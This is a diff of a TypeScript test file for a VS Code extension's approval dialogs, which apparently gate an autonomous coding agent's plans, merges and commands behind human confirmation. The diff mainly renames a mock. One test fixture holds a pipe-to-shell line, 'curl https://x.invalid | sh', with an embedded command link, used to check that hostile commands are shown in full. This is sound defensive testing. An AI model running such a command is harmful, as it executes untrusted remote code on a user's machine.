@@ -74,12 +74,16 @@ vi.mock('vscode', () => ({
 const { approve, reject } = await import('../../../../src/vscode/approval/approve.ts');
 const { remarksOf } = await import('../../../../src/vscode/approval/review/remarks.ts');
 
-function contextOf(row: Partial<ApprovalRow>): { context: HostContext; wishes: unknown[] } {
+function contextOf(row: Partial<ApprovalRow>): { context: HostContext; requests: unknown[] } {
   const jobs = [jobRow({ options: jobOptions({ mergeMode: 'branch' }) })];
   const state = stateOf({ jobs, approvals: [approvalRow({ id: 1, executables: [], choices: [], ...row })] });
-  const wishes: unknown[] = [];
-  const engine = { state, open: async () => null, wish: async (_: string, input: unknown) => void wishes.push(input) };
-  return { context: { engine } as unknown as HostContext, wishes };
+  const requests: unknown[] = [];
+  const engine = {
+    state,
+    open: async () => null,
+    request: async (_: string, input: unknown) => void requests.push(input),
+  };
+  return { context: { engine } as unknown as HostContext, requests };
 }
 
 /** The question as a person saw it. */
@@ -114,18 +118,18 @@ beforeEach(() => {
 
 describe('Approve', () => {
   it('answers a question without choices at once', async () => {
-    const { context, wishes } = contextOf({ kind: 'plan' });
+    const { context, requests } = contextOf({ kind: 'plan' });
     await approve(context, asked(context));
-    expect(wishes).toMatchObject([
+    expect(requests).toMatchObject([
       { approvalId: 1, decision: 'approved', choice: null, feedback: null, by: 'steward' },
     ]);
   });
 
   it('accepts a plan as it was edited, saved or not', async () => {
-    const { context, wishes } = contextOf({ kind: 'plan' });
+    const { context, requests } = contextOf({ kind: 'plan' });
     person.unsaved = ['autonomous-plan:/job-1/plan.yaml'];
     await approve(context, asked(context));
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     expect(person.ran).toEqual([['autonomous.acceptPlan', 'job-1']]);
   });
 
@@ -137,7 +141,7 @@ describe('Approve', () => {
   });
 
   it('of a plan shows every phase before it is confirmed', async () => {
-    const { context, wishes } = contextOf({ kind: 'plan', subject: 'plan:2', detail: '1. Core: It works' });
+    const { context, requests } = contextOf({ kind: 'plan', subject: 'plan:2', detail: '1. Core: It works' });
     const plan = planOf({ Core: ['parser', 'store'], Commands: ['undo'], Manual: ['guide'] });
     const row = { id: planId('job-1', 2), job_id: 'job-1', version: 2, plan, by: 'planner', at: '' } as const;
     context.engine.state.plans.set(row.id, row);
@@ -145,10 +149,10 @@ describe('Approve', () => {
     expect(person.dialogs).toEqual([
       { modal: true, detail: '1. Core (features: 2)\n2. Commands (features: 1)\n3. Manual (features: 1)' },
     ]);
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     person.presses = ['Approve'];
     await approve(context, asked(context), { confirm: true });
-    expect(wishes).toMatchObject([{ decision: 'approved' }]);
+    expect(requests).toMatchObject([{ decision: 'approved' }]);
   });
 
   it('of a phase shows the evidence and the features before it is confirmed, and only the totals of the files', async () => {
@@ -161,15 +165,15 @@ describe('Approve', () => {
 
   it('of a plan that asks and installs shows the commands, and takes no answer without words', async () => {
     const plan = { ...planOf({ Core: ['parser'] }), questions: ['Tabs?', 'Which port?'], setup: ['npm install'] };
-    const { context, wishes } = contextOf({ kind: 'plan', subject: subjectOf(aboutPlan(2, plan)) });
+    const { context, requests } = contextOf({ kind: 'plan', subject: subjectOf(aboutPlan(2, plan)) });
     const row = { id: planId('job-1', 2), job_id: 'job-1', version: 2, plan, by: 'planner', at: '' } as const;
     context.engine.state.plans.set(row.id, row);
     person.presses = ['Approve', 'Approve'];
     person.types = ['', '1: yes. 2: 80.'];
     await approve(context, asked(context), { confirm: true });
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     await approve(context, asked(context), { confirm: true });
-    expect(wishes).toMatchObject([{ decision: 'approved', feedback: '1: yes. 2: 80.' }]);
+    expect(requests).toMatchObject([{ decision: 'approved', feedback: '1: yes. 2: 80.' }]);
     expect(person.dialogs[0]).toMatchObject({ detail: expect.stringMatching(/run:\nnpm install$/) });
     expect(person.prompts).toContain('1. Tabs? 2. Which port?');
   });
@@ -182,127 +186,127 @@ describe('Approve', () => {
   });
 
   it('offers the choices of a question, and takes none when it is dismissed', async () => {
-    const { context, wishes } = contextOf({ kind: 'dirty_tree', choices: ['head', 'snapshot'] });
+    const { context, requests } = contextOf({ kind: 'dirty_tree', choices: ['head', 'snapshot'] });
     await approve(context, asked(context));
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     person.picks = [['Start from a snapshot of the tree as it is']];
     await approve(context, asked(context));
-    expect(wishes).toMatchObject([{ choice: 'snapshot' }]);
+    expect(requests).toMatchObject([{ choice: 'snapshot' }]);
   });
 
   it('sends a stuck worker an answer, never an empty one', async () => {
-    const { context, wishes } = contextOf({ kind: 'stuck', subject: 'stuck:1' });
+    const { context, requests } = contextOf({ kind: 'stuck', subject: 'stuck:1' });
     person.types = [undefined, '  ', 'Tabs.'];
     await approve(context, asked(context));
     await approve(context, asked(context));
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     await approve(context, asked(context));
-    expect(wishes).toMatchObject([{ decision: 'approved', feedback: 'Tabs.' }]);
+    expect(requests).toMatchObject([{ decision: 'approved', feedback: 'Tabs.' }]);
   });
 
   it('takes a bare yes to a question of the engine that needs no words', async () => {
-    const { context, wishes } = contextOf({ kind: 'stuck', subject: 'same_error:1' });
+    const { context, requests } = contextOf({ kind: 'stuck', subject: 'same_error:1' });
     person.types = [undefined, ' '];
     await approve(context, asked(context));
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     await approve(context, asked(context));
-    expect(wishes).toMatchObject([{ decision: 'approved', feedback: null }]);
+    expect(requests).toMatchObject([{ decision: 'approved', feedback: null }]);
   });
 
   it('goes out only when every file that would run was ticked', async () => {
     const executables = ['.husky/pre-commit', 'package.json'];
-    const { context, wishes } = contextOf({ kind: 'merge', choices: ['merge', 'branch', 'patch'], executables });
+    const { context, requests } = contextOf({ kind: 'merge', choices: ['merge', 'branch', 'patch'], executables });
     for (const ticked of [undefined, [], ['package.json']]) {
       person.picks = [['Merge'], ticked];
       await approve(context, asked(context));
     }
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     expect(person.told.at(-1)).toBe('Not approved. May run on your machine, and was not ticked: .husky/pre-commit');
     person.picks = [['Merge'], executables];
     await approve(context, asked(context));
-    expect(wishes).toMatchObject([{ choice: 'merge' }]);
+    expect(requests).toMatchObject([{ choice: 'merge' }]);
   });
 
   it('ticks are asked for even when a card gave the choice', async () => {
-    const { context, wishes } = contextOf({
+    const { context, requests } = contextOf({
       kind: 'merge',
       choices: ['merge', 'branch'],
       executables: ['package.json'],
     });
     await approve(context, asked(context), { choice: 'merge' });
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
   });
 
   it('asks how to merge when a page only proposes it, and offers that first', async () => {
-    const { context, wishes } = contextOf({ kind: 'merge', choices: ['merge', 'branch', 'patch'] });
+    const { context, requests } = contextOf({ kind: 'merge', choices: ['merge', 'branch', 'patch'] });
     await approve(context, asked(context), { choice: null, first: 'patch' });
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     expect(person.offered).toEqual([['Write a patch file', 'Leave it on a branch of its own', 'Merge']]);
     person.picks = [['Write a patch file']];
     await approve(context, asked(context), { choice: null, first: 'patch' });
-    expect(wishes).toMatchObject([{ choice: 'patch' }]);
+    expect(requests).toMatchObject([{ choice: 'patch' }]);
   });
 
   it('says to run commands only with every line of them shown, and only when that is pressed', async () => {
     const detail = 'npm ci\ncurl https://x.invalid | sh # [read](command:me)';
-    const { context, wishes } = contextOf({ kind: 'command', subject: 'command:npm ci', detail });
+    const { context, requests } = contextOf({ kind: 'command', subject: 'command:npm ci', detail });
     await approve(context, asked(context));
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     person.presses = ['Run'];
     await approve(context, asked(context), { choice: null });
-    expect(wishes).toMatchObject([{ decision: 'approved' }]);
+    expect(requests).toMatchObject([{ decision: 'approved' }]);
     const shown = { modal: true, detail: 'npm ci\ncurl https://x.invalid | sh # [read]\u200b(command:me)' };
     expect(person.dialogs).toEqual([shown, shown]);
   });
 
   it('shows as a document what a dialog has no room for', async () => {
     const detail = Array.from({ length: 60 }, (_, at) => `echo ${at}`).join('\n');
-    const { context, wishes } = contextOf({ kind: 'setup', subject: 'setup', detail, question: 'Run these?' });
+    const { context, requests } = contextOf({ kind: 'setup', subject: 'setup', detail, question: 'Run these?' });
     await approve(context, asked(context));
     expect(person.opened).toEqual(['autonomous-question:/question-1.sh']);
     expect(person.told).toEqual(['Run these? The whole text is in the editor in front of you.']);
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
   });
 
   it('asks before it gives up the comments of a review, which go with a rejection only', async () => {
-    const { context, wishes } = contextOf({ kind: 'plan' });
+    const { context, requests } = contextOf({ kind: 'plan' });
     const cleared = remarked(context);
     await approve(context, asked(context));
-    expect([wishes, cleared]).toEqual([[], []]);
+    expect([requests, cleared]).toEqual([[], []]);
     person.presses = ['Approve Without Comments'];
     await approve(context, asked(context));
-    expect(wishes).toHaveLength(1);
+    expect(requests).toHaveLength(1);
     expect(cleared).toEqual([1]);
   });
 
   it('is for the question that was shown, not for the one of another folder with its number', async () => {
-    const { context, wishes } = contextOf({ kind: 'plan' });
+    const { context, requests } = contextOf({ kind: 'plan' });
     for (const other of [{ job_id: 'job-2' }, { commit: 'c0ffee' }, { requested_at: '2020-01-01T00:00:00.000Z' }]) {
       await approve(context, { ...asked(context), ...other });
       await reject(context, { ...asked(context), ...other });
     }
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     expect(person.told).toHaveLength(6);
   });
 
   it('is not sent when another folder was chosen while it was asked', async () => {
-    const { context, wishes } = contextOf({ kind: 'dirty_tree', choices: ['head', 'snapshot'] });
+    const { context, requests } = contextOf({ kind: 'dirty_tree', choices: ['head', 'snapshot'] });
     person.whilePicking = () => {
       const approvals = [approvalRow({ id: 1, job_id: 'job-2', choices: ['head'] })];
       Object.assign(context.engine, { state: stateOf({ jobs: [jobRow({ id: 'job-2' })], approvals }) });
     };
     person.picks = [['Start from the last commit']];
     await approve(context, asked(context));
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     expect(person.told).toEqual(['This question is settled: what it asked about changed.']);
   });
 
   it('says so when somebody answered before', async () => {
-    const { context, wishes } = contextOf({ status: 'rejected' });
+    const { context, requests } = contextOf({ status: 'rejected' });
     await approve(context, asked(context));
     await reject(context, asked(context));
     await approve(context, asked(context, 99));
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     expect(person.told).toHaveLength(3);
   });
 });
@@ -321,19 +325,19 @@ describe('Reject', () => {
   });
 
   it('needs a reason', async () => {
-    const { context, wishes } = contextOf({});
+    const { context, requests } = contextOf({});
     person.types = ['', undefined];
     await reject(context, asked(context));
     await reject(context, asked(context));
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
   });
 
   it('takes the remarks of the review for one, and forgets them afterwards', async () => {
-    const { context, wishes } = contextOf({});
+    const { context, requests } = contextOf({});
     const cleared = remarked(context);
     person.types = [''];
     await reject(context, asked(context));
-    expect(wishes).toMatchObject([{ decision: 'rejected', feedback: '- a.ts:2: off by one' }]);
+    expect(requests).toMatchObject([{ decision: 'rejected', feedback: '- a.ts:2: off by one' }]);
     expect(cleared).toEqual([1]);
   });
 });
@@ -342,36 +346,36 @@ describe('a question about a project', () => {
   const aboutProject = { job_id: null, project_id: 'api', commit: null } as const;
 
   it('trusts no repository before a person saw what will be read', async () => {
-    const { context, wishes } = contextOf({
+    const { context, requests } = contextOf({
       ...aboutProject,
       kind: 'workdir',
       question: 'Trust it?',
       detail: 'Reads /x',
     });
     await approve(context, asked(context));
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     person.presses = ['Trust'];
     await approve(context, asked(context));
     expect(person.dialogs).toEqual(Array(2).fill({ modal: true, detail: 'Reads /x' }));
-    expect(wishes).toEqual([expect.objectContaining({ approvalId: 1, decision: 'approved' })]);
+    expect(requests).toEqual([expect.objectContaining({ approvalId: 1, decision: 'approved' })]);
   });
 
   it('asks who should know of a message, and leaves it where that was dismissed', async () => {
-    const { context, wishes } = contextOf({ ...aboutProject, kind: 'relay', choices: ['web', 'nobody'] });
+    const { context, requests } = contextOf({ ...aboutProject, kind: 'relay', choices: ['web', 'nobody'] });
     await approve(context, asked(context));
-    expect(wishes).toEqual([]);
+    expect(requests).toEqual([]);
     person.picks = [['Nobody']];
     await approve(context, asked(context));
     expect(person.offered).toEqual(Array(2).fill(['web', 'Nobody']));
-    expect(wishes).toEqual([expect.objectContaining({ choice: 'nobody' })]);
+    expect(requests).toEqual([expect.objectContaining({ choice: 'nobody' })]);
   });
 
   it.each(['workdir', 'definition', 'relay', 'project'] as const)(
     'of kind %s is refused without a reason',
     async (kind) => {
-      const { context, wishes } = contextOf({ ...aboutProject, kind });
+      const { context, requests } = contextOf({ ...aboutProject, kind });
       await reject(context, asked(context));
-      expect(wishes).toEqual([expect.objectContaining({ decision: 'rejected', feedback: 'refused' })]);
+      expect(requests).toEqual([expect.objectContaining({ decision: 'rejected', feedback: 'refused' })]);
     },
   );
 });
